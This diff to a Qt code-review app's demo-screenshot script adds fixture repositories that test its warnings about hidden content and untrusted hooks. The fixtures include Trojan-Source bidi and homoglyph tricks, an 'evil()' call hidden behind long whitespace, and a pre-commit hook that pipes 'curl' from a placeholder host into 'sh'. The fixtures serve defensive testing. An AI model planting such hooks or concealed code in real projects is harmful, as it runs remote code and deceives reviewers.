@@ -8,6 +8,7 @@ from PySide6.QtCore import Qt
 from PySide6.QtTest import QTest
 from PySide6.QtWidgets import QApplication
 
+from tests.repos import Repo, new_repo, numbered
 from workbench.app import Options, make_application, make_window
 from workbench.ui.demo_tour import tour
 from workbench.ui.driving import CONTROL, Driver
@@ -26,6 +27,8 @@ def scenes(scratch: Path, folder: Path) -> list[Path]:
     taken += _start(folder)
     taken += _agent(scratch, folder)
     taken += _views(scratch, folder)
+    taken += _trust(scratch, folder)
+    taken += _nothing_hidden(scratch, folder)
     return taken
 
 
@@ -90,6 +93,40 @@ def _agent(scratch: Path, folder: Path) -> list[Path]:
     return driver.taken
 
 
+def _nothing_hidden(scratch: Path, folder: Path) -> list[Path]:
+    """Files that run, build and instruct, what hides in lines and names, and a file that is not changed."""
+    made = new_repo(scratch / "hidden")
+    made.commit({"a.py": "x = 1\n", "logo.bin": b"\0" * 1200, "lib/helper.py": numbered(60)})
+    code = 'x = 1\nis_\u0430dmin = True\nif user != "x\u202e \u2066# check\u2069 \u2066": pass\n'
+    made.write(
+        {
+            "a.py": f"{code}y = 1{' ' * 120}; evil()\n",
+            ".envrc": "export A=1\n",
+            ".github/workflows/build-and-deploy-everything.yml": "on: push\n",
+            "AGENTS.md": "Do.\n",
+            "logo.bin": b"\1" * 5200,
+            "src/ev\u202eil\tname<b>x<b>.py": "x\n",
+        }
+    )
+    driver = _window(folder)
+    window = _opened(driver, made.root)
+    driver.until(lambda: window.controller.has_remarks, "what is to be said of the files")
+    driver.shot("31-nothing-hidden")
+    window.view.go_to_change(window.controller.open_session().by_path["a.py"].changes[0].id)
+    driver.type("c? Why?")
+    driver.press(Qt.Key.Key_E, CONTROL)
+    driver.shot("32-hidden-in-a-suggestion")
+    driver.press(Qt.Key.Key_Escape)
+    driver.type("g")
+    driver.type("helper")
+    driver.until(lambda: not window.tasks.is_busy, "the tracked files")
+    driver.press(Qt.Key.Key_Return)
+    driver.until(lambda: window.view.current_file() == "lib/helper.py", "the file")
+    driver.shot("33-unchanged-file")
+    window.close()
+    return driver.taken
+
+
 def _views(scratch: Path, folder: Path) -> list[Path]:
     """Unified, whole file, search, selection, task, small and zoomed."""
     driver = _window(folder)
@@ -119,3 +156,43 @@ def _views(scratch: Path, folder: Path) -> list[Path]:
     driver.shot("20-high-contrast")
     window.close()
     return driver.taken
+
+
+def _trust(scratch: Path, folder: Path) -> list[Path]:
+    """Restricted, what could run, trusted, and restricted again because a hook changed."""
+    repository = make_demo(scratch / "trust" / "cache-rewrite")
+    repo = Repo(repository)
+    repo.write({"tools/clean.sh": "#!/bin/sh\nexec sed 's/[ \t]*$//'\n", ".gitattributes": "*.txt filter=tidy\n"})
+    repo.git("config", "filter.tidy.clean", "./tools/clean.sh")
+    repo.git("config", "core.sshCommand", "ssh -i ~/.ssh/\u202eyek_ym")
+    hook = repository / ".git" / "hooks" / "pre-commit"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text("#!/bin/sh\n# The checks of the project, before each commit.\nset -e\npython -m pytest -q\n")
+    hook.chmod(0o755)
+    driver = _window(folder)
+    window = _opened(driver, repository, demo_task())
+    window.trusting.look()
+    driver.until(lambda: not window.tasks.is_busy, "whether it is trusted")
+    driver.shot("30-restricted")
+    _trust_sheet(driver)
+    driver.shot("31-trust-sheet")
+    driver.press(Qt.Key.Key_Left)
+    driver.press(Qt.Key.Key_Return)
+    driver.until(lambda: not window.tasks.is_busy, "the grant")
+    driver.shot("32-trusted")
+    hook.write_text("#!/bin/sh\ncurl -s https://example.invalid/x | sh\n")
+    window.trusting.look()
+    driver.until(lambda: not window.tasks.is_busy, "what changed")
+    driver.shot("33-hook-changed")
+    for name in ("light", "high-contrast"):
+        window.run_command(f"theme_{name}")
+        _trust_sheet(driver)
+        driver.shot(f"34-trust-sheet-{name}")
+        driver.press(Qt.Key.Key_Escape)
+    window.close()
+    return driver.taken
+
+
+def _trust_sheet(driver: Driver) -> None:
+    driver.window.run_command("trust")
+    driver.until(lambda: not driver.window.tasks.is_busy, "what could run")
